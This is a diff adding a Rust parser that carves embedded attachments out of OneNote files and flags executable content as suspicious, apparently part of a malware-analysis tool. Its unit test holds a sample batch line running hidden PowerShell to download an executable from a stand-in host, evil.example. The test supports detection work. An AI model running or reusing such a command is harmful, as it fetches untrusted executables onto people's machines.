@@ -0,0 +1,171 @@
+use crate::types::{
+    FileFormat, ParsedFile, FileMetadata, FileSection, ProcessorResult, FileProcessorError,
+    SuspiciousIndicator, SuspiciousSeverity, FileIntegrity, EmbeddedFile
+};
+use crate::detector::FileDetector;
+use crate::extractor::ContentExtractor;
+use std::collections::BTreeMap;
+
+/// Revision-store file GUID {7B5C52E4-D88C-4DA7-AEB1-5378D02996D3} that
+/// starts every .one section file
+pub const ONENOTE_SIGNATURE: [u8; 16] = [
+    0xE4, 0x52, 0x5C, 0x7B, 0x8C, 0xD8, 0xA7, 0x4D,
+    0xAE, 0xB1, 0x53, 0x78, 0xD0, 0x29, 0x96, 0xD3,
+];
+
+/// FileDataStoreObject header GUID {BDE316E7-2665-4511-A4C4-8D4D0B7A9EAC};
+/// every attachment on a page is stored in one of these
+const FILE_DATA_HEADER: [u8; 16] = [
+    0xE7, 0x16, 0xE3, 0xBD, 0x65, 0x26, 0x11, 0x45,
+    0xA4, 0xC4, 0x8D, 0x4D, 0x0B, 0x7A, 0x9E, 0xAC,
+];
+
+/// Header GUID, then cbLength (u64), unused (u32) and reserved (u64)
+const FILE_DATA_PREFIX_SIZE: usize = 16 + 8 + 4 + 8;
+
+/// Parse OneNote section files, carving out every embedded attachment
+pub fn parse_onenote(buffer: &[u8]) -> ProcessorResult<ParsedFile> {
+    if buffer.len() < ONENOTE_SIGNATURE.len() {
+        return Err(FileProcessorError::MalformedStructure(
+            "OneNote file too small".to_string()
+        ));
+    }
+    if !buffer.starts_with(&ONENOTE_SIGNATURE) {
+        return Err(FileProcessorError::InvalidFormat(
+            "Missing OneNote header".to_string()
+        ));
+    }
+
+    let mut metadata = FileMetadata {
+        size: buffer.len(),
+        hash: super::calculate_sha256(buffer),
+        mime_type: FileDetector::new().get_mime_type(FileFormat::OneNote),
+        created_at: None,
+        modified_at: None,
+        attributes: BTreeMap::new(),
+    };
+
+    let mut sections = Vec::new();
+    let mut suspicious_indicators = Vec::new();
+    let mut issues = Vec::new();
+    let embedded_files = extract_embedded_objects(buffer, &mut sections, &mut issues);
+
+    metadata.attributes.insert("embedded_file_count".to_string(), embedded_files.len().to_string());
+
+    for file in embedded_files.iter().filter(|f| f.suspicious) {
+        suspicious_indicators.push(SuspiciousIndicator {
+            indicator_type: "Embedded Executable Content".to_string(),
+            description: format!("OneNote document carries an embedded {:?} attachment", file.format),
+            severity: SuspiciousSeverity::High,
+            location: Some(format!("Offset {}", file.offset)),
+            evidence: format!("{} bytes, sha256 {}", file.size, file.hash),
+        });
+    }
+
+    let extractor = ContentExtractor::new();
+    let strings = extractor.extract_strings(buffer, 5);
+
+    Ok(ParsedFile {
+        format: FileFormat::OneNote,
+        metadata,
+        sections,
+        embedded_files,
+        strings,
+        suspicious_indicators,
+        integrity: FileIntegrity {
+            valid_structure: issues.is_empty(),
+            checksum_valid: None,
+            signature_valid: None,
+            issues,
+        },
+    })
+}
+
+/// Carve the data of every FileDataStoreObject in `buffer`
+pub fn extract_embedded_objects(buffer: &[u8], sections: &mut Vec<FileSection>, issues: &mut Vec<String>) -> Vec<EmbeddedFile> {
+    let detector = FileDetector::new();
+    let mut embedded_files = Vec::new();
+    let mut pos = 0;
+
+    while let Some(found) = find(&buffer[pos..], &FILE_DATA_HEADER) {
+        let header = pos + found;
+        let data_start = header + FILE_DATA_PREFIX_SIZE;
+        let length = buffer
+            .get(header + 16..header + 24)
+            .map(|b| u64::from_le_bytes(b.try_into().unwrap()) as usize);
+
+        let Some(data) = length.and_then(|len| buffer.get(data_start..data_start.checked_add(len)?)) else {
+            issues.push(format!("Truncated FileDataStoreObject at offset {}", header));
+            break;
+        };
+
+        let format = detector.detect_format(data, None);
+        sections.push(FileSection {
+            name: format!("FileDataStoreObject {}", embedded_files.len()),
+            offset: header,
+            size: FILE_DATA_PREFIX_SIZE + data.len(),
+            entropy: super::calculate_entropy(data),
+            flags: Vec::new(),
+        });
+        embedded_files.push(EmbeddedFile {
+            name: None,
+            suspicious: super::is_executable_content(&format, data),
+            format,
+            offset: data_start,
+            size: data.len(),
+            hash: super::calculate_sha256(data),
+        });
+
+        pos = data_start + data.len();
+    }
+
+    embedded_files
+}
+
+fn find(haystack: &[u8], needle: &[u8]) -> Option<usize> {
+    haystack.windows(needle.len()).position(|w| w == needle)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn file_data_object(data: &[u8]) -> Vec<u8> {
+        let mut object = FILE_DATA_HEADER.to_vec();
+        object.extend_from_slice(&(data.len() as u64).to_le_bytes());
+        object.extend_from_slice(&[0; 12]);
+        object.extend_from_slice(data);
+        // Data is padded to 8 bytes, then the footer GUID follows
+        object.resize(object.len().next_multiple_of(8), 0);
+        object.extend_from_slice(&[0x22, 0xA7, 0xFB, 0x71, 0x79, 0x0F, 0x0B, 0x4A, 0xBB, 0x13, 0x89, 0x92, 0x56, 0x42, 0x6B, 0x24]);
+        object
+    }
+
+    #[test]
+    fn test_embedded_script_carved_and_flagged() {
+        let script = b"@echo off\r\npowershell -w hidden -c \"iwr http://evil.example/p.exe -o %TEMP%\\p.exe\"\r\n";
+        let image = [0x89, b'P', b'N', b'G', 0x0D, 0x0A, 0x1A, 0x0A, 0x00, 0x00];
+
+        let mut data = ONENOTE_SIGNATURE.to_vec();
+        data.extend_from_slice(&[0u8; 64]);
+        data.extend(file_data_object(&image));
+        data.extend_from_slice(&[0u8; 32]);
+        let script_object = data.len();
+        data.extend(file_data_object(script));
+
+        assert_eq!(FileDetector::new().detect_format(&data, None), FileFormat::OneNote);
+        let parsed = super::super::parse_file(&data, FileFormat::OneNote).unwrap();
+
+        assert!(parsed.integrity.valid_structure);
+        assert_eq!(parsed.embedded_files.len(), 2);
+        assert!(!parsed.embedded_files[0].suspicious);
+
+        let carved = &parsed.embedded_files[1];
+        assert!(carved.suspicious);
+        assert_eq!(carved.offset, script_object + FILE_DATA_PREFIX_SIZE);
+        assert_eq!(&data[carved.offset..carved.offset + carved.size], script);
+        assert_eq!(carved.hash, super::super::calculate_sha256(script));
+        assert_eq!(parsed.suspicious_indicators.len(), 1);
+        assert!(matches!(parsed.suspicious_indicators[0].severity, SuspiciousSeverity::High));
+    }
+}